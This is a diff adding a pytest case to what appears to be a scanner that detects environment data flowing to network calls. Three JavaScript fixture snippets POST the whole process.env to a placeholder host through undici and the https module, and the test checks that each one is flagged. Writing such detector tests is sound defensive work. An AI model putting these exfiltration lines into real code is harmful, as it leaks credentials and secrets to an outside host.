@@ -359,3 +359,16 @@ def test_curl_options_env_is_not_sent() -> None:
         "execSync('curl -sLo bin.tgz https://dl.example.com/bin.tgz', { env: { ...process.env, A: '1' } });"
     )
     assert not flows_of(code).flows
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "const { request } = require('undici');\nrequest('https://a.example.com', {method: 'POST', body: JSON.stringify(process.env)});",
+        "import { fetch as f } from 'undici';\nf('https://a.example.com', {method: 'POST', body: JSON.stringify(process.env)});",
+        "import https from 'https';\nhttps.request({host: 'a.example.com'}).end(JSON.stringify(process.env));",
+    ],
+    ids=["undici-destructured", "undici-named-import", "esm-https"],
+)
+def test_client_bindings(code: str) -> None:
+    assert flows_of(code, "index.mjs").flows
